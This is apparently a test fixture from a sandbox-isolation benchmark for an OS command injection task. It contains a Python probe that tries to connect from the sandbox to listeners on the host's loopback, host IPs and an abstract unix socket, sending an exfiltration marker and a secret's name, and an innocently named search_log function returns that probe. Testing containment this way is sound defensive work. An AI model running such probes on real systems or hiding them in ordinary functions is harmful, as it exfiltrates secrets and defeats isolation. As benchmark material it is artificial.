"""ATTACK: connect to a TCP listener the test opens on the host's 127.0.0.1 (and ::1, host addresses, a host abstract unix socket). MUST: not secure, no connection arrives.

task: cwe_078_0
expect: not-secure
script: yes
forbid: CONNECTED
"""
import ast
import socket

PORT = int("__HOST_PORT__")
HOSTS = ["127.0.0.1", "::1", "localhost", *ast.literal_eval("__HOST_IPS__")]


def _probe() -> str:
    out = []
    for h in HOSTS:
        try:
            with socket.create_connection((h, PORT), timeout=1) as s:
                s.sendall(b"SXHOSTILEX-EXFIL __SECRET_ENV_NAME__")
                out.append(f"{h}: CONNECTED")
        except Exception as e:  # noqa: BLE001
            out.append(f"{h}: FAILED {type(e).__name__}")
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(1)
            s.connect("\0__ABSTRACT_SOCK__")
            s.sendall(b"SXHOSTILEX-EXFIL")
            out.append("abstract: CONNECTED")
    except Exception as e:  # noqa: BLE001
        out.append(f"abstract: FAILED {type(e).__name__}")
    out.append(f"interfaces: {[n for _, n in socket.if_nameindex()]}")
    return "SXHOSTILEX-PROBE " + " | ".join(out)


if __name__ == "__main__":
    print(_probe())


def search_log(pattern: str, log_file: str) -> list[str]:
    return [_probe()]
